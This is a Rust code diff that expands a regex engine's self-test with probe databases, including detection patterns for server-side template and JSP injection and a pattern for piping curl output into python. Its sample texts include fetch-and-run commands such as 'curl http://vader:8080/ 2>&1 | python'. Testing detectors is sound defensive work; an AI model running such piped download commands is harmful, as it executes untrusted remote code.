@@ -25,30 +25,66 @@ impl PatternLibrary {
     }
 }
 
-/// Patterns with texts that each must match, after reports of matches that were missed: literals behind
-/// case-folding classes, alternations of overlapping prefixes, bounded gaps, and matches at either end.
-const PROBES: [(&str, &str); 10] = [
-    ("[fF][oO][oO]", "xxFoO"),
-    ("(?:abc|abcd)e", "zabcde"),
-    ("a.{3,8}b", "a1234567b"),
-    ("\\Auser [0-9]+\\z", "user 42"),
-    ("error|err|er", "an er"),
-    ("[a-z]{4}[0-9]{4}", "......................................................................abcd1234"),
-    ("(?:foo|bar)+baz", "foobarfoobaz"),
-    ("\\bcard\\b", "the card is"),
-    ("[\\x{e0}-\\x{fc}]t[\\x{e9}]", "\u{e9}t\u{e9}"),
-    ("token=[^&]*&", "?a=1&token=0123456789abcdef0123456789abcdef&b=2"),
+/// Patterns of one database, and texts with the pattern that each must be found by.
+type Probe<'a> = (&'a [&'a str], &'a [(usize, &'a str)]);
+
+/// What has been seen to be missed: gaps of any characters beside a set of markup patterns (Vectorscan issue 358),
+/// gaps before an escaped bar at certain offsets (issue 382). And what optimised matchers find hard: case-folding
+/// classes, overlapping alternatives, bounded gaps, boundaries, either end, the far side of a vector.
+const PROBES: [Probe<'static>; 3] = [
+    (
+        &[
+            r"<%[\x{0}-\x{10ffff}]+%>",
+            "<[^<>]+:(?:include|forward|invoke|doBody|getProperty|setProperty|useBean|plugin|element|attribute|body|fallback|params|param|output|root)",
+            r"[\$#]\{[\x{0}-\x{10ffff}]+\([\x{0}-\x{10ffff}]*\)[\x{0}-\x{10ffff}]*\}",
+        ],
+        &[(0, "<%out.print();int a%>")],
+    ),
+    (
+        &[r"curl[\x{0}-\x{10ffff}]*\|[\x{9}-\x{a}\x{c}-\x{d} ]*python"],
+        &[
+            (0, "curl http://xxx:8000/ 2>&1 | python"),
+            (0, "curl http://xxxx:8000/ 2>&1 | python"),
+            (0, "curl http://vader:8080/ 2>&1 | python"),
+        ],
+    ),
+    (
+        &[
+            "[fF][oO][oO]",
+            "(?:abc|abcd)e",
+            "a.{3,8}b",
+            r"\Auser [0-9]+\z",
+            "[a-z]{4}[0-9]{4}",
+            "(?:foo|bar)+baz",
+            r"\bcard\b",
+            r"[\x{e0}-\x{fc}]t[\x{e9}]",
+        ],
+        &[
+            (0, "xxFoO"),
+            (1, "zabcde"),
+            (2, "a1234567b"),
+            (3, "user 42"),
+            (4, "......................................................................abcd1234"),
+            (5, "foobarfoobaz"),
+            (6, "the card is"),
+            (7, "\u{e9}t\u{e9}"),
+        ],
+    ),
 ];
 
-fn self_test(probes: &[(&str, &str)]) -> bool {
+fn self_test(probes: &[Probe<'_>]) -> bool {
+    probes.iter().all(|(patterns, texts)| finds_all(patterns, texts).unwrap_or(false))
+}
+
+fn finds_all(patterns: &[&str], texts: &[(usize, &str)]) -> Option<bool> {
     let patterns: Vec<CString> =
-        probes.iter().map(|(pattern, _)| CString::new(*pattern).expect("probes hold no NUL")).collect();
-    let Ok(database) = Database::compile(&patterns) else { return false };
-    let Ok(mut scanner) = Scanner::new([database].into()) else { return false };
-    probes.iter().enumerate().all(|(index, (_, text))| {
+        patterns.iter().map(|pattern| CString::new(*pattern).ok()).collect::<Option<_>>()?;
+    let mut scanner = Scanner::new([Database::compile(&patterns).ok()?].into()).ok()?;
+    let mut finds = |(pattern, text): &(usize, &str)| {
         let mut found = false;
-        scanner.scan(0, text, |id| found |= id as usize == index).is_ok() && found
-    })
+        scanner.scan(0, text, |id| found |= id as usize == *pattern).is_ok() && found
+    };
+    Some(texts.iter().all(&mut finds))
 }
 
 #[cfg(test)]
@@ -62,7 +98,7 @@ mod tests {
 
     #[test]
     fn a_missed_match_or_a_refusal_fails() {
-        assert!(!self_test(&[("a", "a"), ("b", "a")]));
-        assert!(!self_test(&[("(", "(")]));
+        assert!(!self_test(&[(&["a", "b"], &[(0, "a"), (1, "a")])]));
+        assert!(!self_test(&[(&["("], &[(0, "(")])]));
     }
 }
